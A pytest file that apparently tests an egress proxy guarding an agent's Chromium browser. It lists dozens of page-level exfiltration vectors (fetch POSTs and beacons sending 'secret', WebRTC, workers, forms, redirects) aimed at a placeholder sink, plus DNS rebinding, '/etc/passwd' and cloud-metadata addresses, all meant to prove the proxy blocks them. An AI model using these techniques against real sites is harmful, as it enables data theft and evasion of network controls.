"""A real Chromium behind the egress proxy: whatever a page tries, nothing reaches a host that is not allowed.

Every attack is tried twice. Without the proxy it has to reach the sink, or it would prove nothing. With it, it must
not. Both in one browser, because Playwright's client drives no second one in the same thread.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import socket
from collections.abc import Iterator
from typing import TYPE_CHECKING

import psutil
import pytest

from agent.network.addresses import AddressPolicy
from agent.network.egress import EgressProxy
from devices.action import Open
from devices.browser.device import BrowserDevice
from devices.browser.launch import BrowserOptions
from devices.errors import AddressRefused, DeviceTimeout, NavigationFailed
from devices.settle import Deadline, wait_until
from tests.agent.sites import FakeNetwork, RawServer, Site, html, read_request, redirect, script, udp_sink

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser

PUBLIC = "93.184.216.34"

# ---------------------------------------------------------------- the attacks; SINK is where they want to go

MARKUP = {
    "img": "<img src=SINK/img>",
    "img-redirect": "<img src=/go/img-redirect>",
    "iframe": "<iframe src=SINK/iframe></iframe>",
    "iframe-redirect": "<iframe src=/go/iframe-redirect></iframe>",
    "srcdoc": "<iframe srcdoc='<img src=SINK/srcdoc>'></iframe>",
    "script": "<script src=SINK/script></script>",
    "style": "<link rel=stylesheet href=SINK/style>",
    "import": "<style>@import 'SINK/import';</style>",
    "background": "<p style='background:url(SINK/background)'>x</p>",
    "font": "<style>@font-face{font-family:f;src:url(SINK/font)}</style><p style='font-family:f'>x</p>",
    "prefetch": "<link rel=prefetch href=SINK/prefetch>",
    "preload": "<link rel=preload as=image href=SINK/preload>",
    "video": "<video preload=auto src=SINK/video></video>",
    "audio": "<audio preload=auto src=SINK/audio></audio>",
    "object": "<object data=SINK/object></object>",
    "embed": "<embed src=SINK/embed>",
    "svg": "<svg><image href=SINK/svg /></svg>",
    "input": "<input type=image src=SINK/input>",
    "base": "<iframe srcdoc='<base href=SINK/><img src=base>'></iframe>",
    "frame-refresh": "<iframe srcdoc='<meta http-equiv=refresh content=\"0;url=SINK/frame-refresh\">'></iframe>",
}
SCRIPTED = {
    "fetch": "fetch('SINK/fetch', {mode: 'no-cors'})",
    "fetch-cors": "fetch('SINK/fetch-cors')",
    "fetch-redirect": "fetch('/go/fetch-redirect', {mode: 'no-cors'})",
    "fetch-post": "fetch('SINK/fetch-post', {method: 'POST', body: 'secret', mode: 'no-cors'})",
    "keepalive": "fetch('SINK/keepalive', {method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true})",
    "xhr": "new Promise(r => { const x = new XMLHttpRequest(); x.onloadend = r; x.open('GET', 'SINK/xhr'); x.send() })",
    "beacon": "navigator.sendBeacon('SINK/beacon', 'secret')",
    "events": "new Promise(r => { const e = new EventSource('SINK/events'); e.onerror = () => { e.close(); r() } })",
    "socket": "new Promise(r => { new WebSocket('WS/socket').onclose = r })",
    "socket-secure": "new Promise(r => { new WebSocket('WSS/socket-secure').onclose = r })",
    "module": "import('SINK/module')",
    "worker": "new Promise(r => { new Worker(URL.createObjectURL(new Blob([\"fetch('SINK/worker', {mode: 'no-cors'})"
    '.finally(() => postMessage(1))"]))).onmessage = r })',
    "worker-import": "new Promise(r => { new Worker(URL.createObjectURL(new Blob(["
    "\"try { importScripts('SINK/worker-import') } catch { } postMessage(1)\"]))).onmessage = r })",
    "shared-worker": "new Promise(r => { const w = new SharedWorker('/shared.js'); w.port.onmessage = r })",
    "service-worker": "navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)",
    "ping": "document.getElementById('ping').click()",
    "form-frame": "document.getElementById('form-frame').submit()",
    "csp": "new Promise(r => { const i = new Image(); i.onerror = i.onload = r; i.src = '/reported.png' })",
    "stun": "ice('stun:HOST', 'udp')",
    "turn": "ice('turn:HOST?transport=tcp', 'tcp')",
    "transport": "new WebTransport('https://HOST/transport').ready",
}
NOT_HTTP = {"socket-secure", "stun", "turn", "transport"}
"""They show at the sink as connections or datagrams, or as a handshake that it cannot read."""

SHARED = "onconnect = e => fetch('SINK/shared-worker', {mode: 'no-cors'}).finally(() => e.ports[0].postMessage(1))"
SERVICE = "oninstall = e => e.waitUntil(fetch('SINK/service-worker', {mode: 'no-cors'}).catch(() => 0))"
EVERYTHING = """<!doctype html><title>everything</title>
MARKUP
<a id=ping href="#there" ping="SINK/ping">x</a>
<iframe name=into></iframe>
<form id=form-frame method=post action="SINK/form-frame" target=into><input name=q value=secret></form>
<script>
const ice = (url, kind) => new Promise(done => {
  const peer = new RTCPeerConnection({iceServers: [{urls: url, username: 'u', credential: 'c'}]})
  peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done()
  peer.createDataChannel('x')
  peer.createOffer().then(offer => peer.setLocalDescription(offer))
  setTimeout(done, 1000)
})
const limit = ms => new Promise(done => setTimeout(done, ms))
addEventListener('load', async () => {
  const tries = [SCRIPTED].map(attempt => { try { return Promise.resolve(attempt()) } catch { return 0 } })
  await Promise.race([Promise.allSettled(tries), limit(3000)])
  window.finished = true
})
</script>"""

NAVIGATIONS = {
    "link": "<a id=go href=SINK/link>x</a>",
    "link-redirect": "<a id=go href=/go/link-redirect>x</a>",
    "link-new-tab": "<a id=go href=SINK/link-new-tab target=_blank rel=opener>x</a>",
    "form-get": "<form action=SINK/form-get><input name=q value=secret><button id=go>x</button></form>",
    "form-post": "<form method=post action=SINK/form-post><input name=q value=secret><button id=go>x</button></form>",
    "form-redirect": "<form method=post action=/keep/form-redirect><input name=q><button id=go>x</button></form>",
    "open": "<button id=go onclick=\"window.open('SINK/open')\">x</button>",
    "open-then": "<button id=go onclick=\"window.open('about:blank').location = 'SINK/open-then'\">x</button>",
    "assign": "<button id=go onclick=\"location.assign('SINK/assign')\">x</button>",
    "top": "<iframe srcdoc=\"<script>top.location = 'SINK/top'</script>\"></iframe>",
    "download": "<a id=go download=f.txt href=SINK/download>x</a>",
    "refresh": "<button id=go onclick=\"location = '/refresh/refresh'\">x</button>",
    "refresh-header": "<button id=go onclick=\"location = '/header/refresh-header'\">x</button>",
}


class Lair(Site):
    """The page that is allowed, and wants to lead to the sink."""

    def __init__(self, sink: Site) -> None:
        super().__init__()
        self.sink = sink
        host = f"127.0.0.1:{sink.port}"

        def fill(text: str) -> str:
            schemes = {"WSS": f"wss://{host}", "WS": f"ws://{host}", "SINK": sink.url, "HOST": host}
            for word, meant in schemes.items():
                text = text.replace(word, meant)
            return text

        attempts = ", ".join(f"() => {code}" for code in SCRIPTED.values())
        policy = f"img-src 'none'; report-uri {sink.url}/csp"
        everything = EVERYTHING.replace("MARKUP", "\n".join(MARKUP.values())).replace("SCRIPTED", attempts)
        self.pages |= {
            "/": html("<title>home</title>home"),
            "/everything": html(fill(everything), Content_Security_Policy_Report_Only=policy),
            "/shared.js": script(fill(SHARED)),
            "/sw.js": script(fill(SERVICE)),
        }
        for name in (*MARKUP, *SCRIPTED, *NAVIGATIONS):
            self.pages[f"/go/{name}"] = redirect(f"{sink.url}/{name}")
            self.pages[f"/keep/{name}"] = redirect(f"{sink.url}/{name}", 307)
            self.pages[f"/refresh/{name}"] = html(f'<meta http-equiv=refresh content="0;url={sink.url}/{name}">')
            self.pages[f"/header/{name}"] = html("x", Refresh=f"0;url={sink.url}/{name}")
        for name, markup in NAVIGATIONS.items():
            self.pages[f"/try/{name}"] = html(f"<!doctype html><title>{name}</title>{fill(markup)}")

    def reached(self, name: str) -> bool:
        return any(path.partition("?")[0] == f"/{name}" for path in self.sink.paths)


@pytest.fixture(scope="module")
def sink() -> Iterator[Site]:
    with Site(default=html("reached", Access_Control_Allow_Origin="*")) as sink:
        yield sink


@pytest.fixture(scope="module")
def lair(sink) -> Iterator[Lair]:
    lair = Lair(sink)
    with lair:
        yield lair


@pytest.fixture(scope="module")
def echo() -> Iterator[RawServer]:
    """Speaks WebSocket, as far as to say hello."""

    def talk(connection: socket.socket) -> None:
        request = read_request(connection).decode()
        key = next(line.partition(": ")[2] for line in request.split("\r\n") if line.startswith("Sec-WebSocket-Key"))
        proof = hashlib.sha1(f"{key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11".encode(), usedforsecurity=False).digest()
        head = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: "
        connection.sendall(f"{head}{base64.b64encode(proof).decode()}\r\n\r\n".encode() + b"\x81\x05hello")
        connection.recv(1024)

    with RawServer(talk) as server:
        yield server


@pytest.fixture(scope="module")
def policy(lair, echo) -> AddressPolicy:
    own = (f"127.0.0.1:{lair.port}", f"127.0.0.1:{echo.port}")
    return AddressPolicy.of(*own, "rebind.test", f"rebind.test:{lair.sink.port}", "static.test")


@pytest.fixture(scope="module")
def network(lair) -> FakeNetwork:
    """The first answer for ``rebind.test`` is public, then this machine: the classic way past a check of names."""
    return FakeNetwork({"rebind.test": [[PUBLIC], ["127.0.0.1"]], "static.test": [[PUBLIC]]}, {PUBLIC: lair.port})


@pytest.fixture(scope="module")
def proxy(policy, network) -> Iterator[EgressProxy]:
    with EgressProxy(policy, "public", network) as proxy:
        yield proxy


@pytest.fixture(scope="module")
def guarded(proxy, policy) -> Iterator[BrowserDevice]:
    options = BrowserOptions(proxy=proxy.credentials)
    with contextlib.closing(BrowserDevice(options=options, check_address=policy.check)) as device:
        yield device


@contextlib.contextmanager
def tab(device: BrowserDevice, proxy: EgressProxy | None = None) -> Iterator[Page]:
    """A page of its own in the device's browser, with or without the proxy; what it opens is closed with it."""
    browser = device.page.context.browser
    assert browser is not None
    if proxy is None:
        context = browser.new_context()
    else:
        address, user, password = proxy.credentials
        own = {"server": address, "username": user, "password": password, "bypass": "<-loopback>"}
        context = browser.new_context(proxy=own)  # type: ignore[arg-type]  # as in devices.browser.launch
    try:
        yield context.new_page()
    finally:
        context.close()


def wait(page: Page, done, what: str = "the page to do what it is told", limit_s: float = 15.0) -> None:
    wait_until(lambda: done() or None, Deadline.after(limit_s), lambda s: page.wait_for_timeout(s * 1000), what)


def refused(proxy: EgressProxy, sink: Site) -> int:
    return sum(refusal.count for refusal in proxy.refusals if refusal.port == sink.port)


# ---------------------------------------------------------------- what a page does by itself


def test_without_the_proxy_every_attempt_reaches_the_sink(guarded, lair):
    with tab(guarded) as page:
        page.goto(f"{lair.url}/everything")
        wait(page, lambda: page.evaluate("window.finished === true"))
        expected = {*MARKUP, *SCRIPTED} - NOT_HTTP
        with contextlib.suppress(DeviceTimeout):
            wait(page, lambda: all(lair.reached(name) for name in expected))
        assert [name for name in expected if not lair.reached(name)] == []


def test_with_the_proxy_none_does(guarded, proxy, lair, sink):
    sink.requests.clear()
    connections, before = sink.connections, refused(proxy, sink)
    with udp_sink(sink.port) as datagrams, tab(guarded, proxy) as page:
        page.goto(f"{lair.url}/everything")
        wait(page, lambda: page.evaluate("window.finished === true"))
        wait(page, lambda: refused(proxy, sink) - before >= len({*MARKUP, *SCRIPTED} - NOT_HTTP))
    assert datagrams == []
    assert sink.requests == []
    assert sink.connections == connections


# ---------------------------------------------------------------- where a page leads


def test_without_the_proxy_every_page_leads_to_the_sink(guarded, lair):
    with tab(guarded) as page:
        lead_away(page, lair)
        with contextlib.suppress(DeviceTimeout):
            wait(page, lambda: all(lair.reached(name) for name in NAVIGATIONS))
        assert [name for name in NAVIGATIONS if not lair.reached(name)] == []


def test_with_the_proxy_none_does_either(guarded, proxy, lair, sink):
    sink.requests.clear()
    connections, before = sink.connections, refused(proxy, sink)
    with tab(guarded, proxy) as page:
        lead_away(page, lair)
        wait(page, lambda: refused(proxy, sink) - before >= len(NAVIGATIONS))
    assert sink.requests == []
    assert sink.connections == connections


def lead_away(page: Page, lair: Lair) -> None:
    """Open every page that leads away in a tab of its own, and do there what it takes."""
    for name, markup in NAVIGATIONS.items():
        page = page.context.new_page()
        page.goto(f"{lair.url}/try/{name}", wait_until="commit")
        if "id=go" in markup:
            page.click("#go", no_wait_after=True)


@pytest.mark.parametrize("way", ["go", "keep", "refresh", "header"])
def test_the_device_is_told_where_it_was_led(guarded, lair, sink, way):
    sink.requests.clear()
    with pytest.raises(AddressRefused, match="but not on port|not on the list"):
        guarded.perform(Open(location=f"{lair.url}/{way}/img"))
    assert sink.requests == []
    assert guarded.page.url == "about:blank"


@pytest.mark.parametrize(
    "address",
    ["http://127.0.0.1:SINK/", "http://localhost:SINK/", "http://2130706433:SINK/", "http://[::1]:SINK/", "file:///etc/passwd",
     "chrome://version", "view-source:http://127.0.0.1:SINK/", "data:text/html,x", "javascript:1", "http://169.254.169.254/"],
)  # fmt: skip
def test_the_device_opens_nothing_that_is_not_allowed(guarded, lair, sink, address):
    sink.requests.clear()
    with pytest.raises(AddressRefused):
        guarded.perform(Open(location=address.replace("SINK", str(sink.port))))
    assert sink.requests == []


@pytest.mark.parametrize("address", ["http://localhost:SINK/", "http://127.1:SINK/", "http://[::ffff:127.0.0.1]:SINK/"])
def test_even_unasked_the_browser_has_no_way_to_this_machine(guarded, lair, sink, address):
    """Playwright is told to go there behind the gate's back: Chromium by itself would not use a proxy for loopback."""
    sink.requests.clear()
    answer = guarded.page.goto(address.replace("SINK", str(sink.port)))
    assert answer.status == 403
    assert answer.headers["clew-egress"] == "refused"
    assert sink.requests == []


def test_the_browser_itself_can_resolve_no_name(guarded):
    """Its updates belong to no page and would go past the proxy."""
    command = psutil.Process(guarded._session.process_id).cmdline()
    assert "--host-resolver-rules=MAP * ~NOTFOUND,EXCLUDE 127.0.0.1" in command


# ---------------------------------------------------------------- what is allowed works


def test_an_allowed_page_loads_with_all_its_parts(guarded, lair):
    parts = "".join(f"<script src=/part{number}.js></script>" for number in range(30))
    lair.pages |= {"/parts": html(f"<title>0</title>{parts}")}
    lair.pages |= {f"/part{number}.js": script("document.title = +document.title + 1") for number in range(30)}
    guarded.perform(Open(location=f"{lair.url}/parts"))
    assert guarded.page.title() == "30"


def test_downloads_pass(guarded, lair):
    content = bytes(range(256)) * 40_000
    lair.pages["/file"] = (
        200,
        {"Content-Type": "application/octet-stream", "Content-Disposition": "attachment"},
        content,
    )
    lair.pages["/offer"] = html("<a id=go href=/file download=f.bin>x</a>")
    guarded.page.goto(f"{lair.url}/offer")
    with guarded.page.expect_download() as started:
        guarded.page.click("#go")
    with open(started.value.path(), "rb") as file:
        assert file.read() == content


def test_sockets_pass(guarded, lair, echo):
    guarded.page.goto(f"{lair.url}/")
    said = guarded.page.evaluate(
        """port => new Promise((yes, no) => {
            const socket = new WebSocket(`ws://127.0.0.1:${port}/`)
            socket.onmessage = event => { yes(event.data); socket.close() }
            socket.onerror = () => no('failed')
        })""",
        echo.port,
    )
    assert said == "hello"


# ---------------------------------------------------------------- names


def test_a_name_that_is_bound_anew_does_not_lead_to_this_machine(guarded, network, lair, sink):
    sink.requests.clear()
    lair.pages["/"] = html("<title>public</title>", Connection="close")
    guarded.perform(Open(location="http://rebind.test/"))
    assert guarded.page.title() == "public"
    again = guarded.page.evaluate("fetch('/', {cache: 'no-store'}).then(answer => answer.status)")
    other = guarded.page.evaluate(f"fetch('http://rebind.test:{sink.port}/').then(() => 'reached', () => 'failed')")
    assert (again, other) == (403, "failed")
    guarded.perform(Open(location="http://static.test/"))
    with pytest.raises(AddressRefused):
        guarded.perform(Open(location="http://elsewhere.test/"))
    with pytest.raises(NavigationFailed, match="ERR_TUNNEL_CONNECTION_FAILED"):
        guarded.perform(Open(location="https://rebind.test/"))
    assert {address for address, _ in network.dialled if address != "127.0.0.1"} == {PUBLIC}
    assert ("127.0.0.1", 80) not in network.dialled
    assert ("127.0.0.1", sink.port) not in network.dialled
    assert sink.requests == []
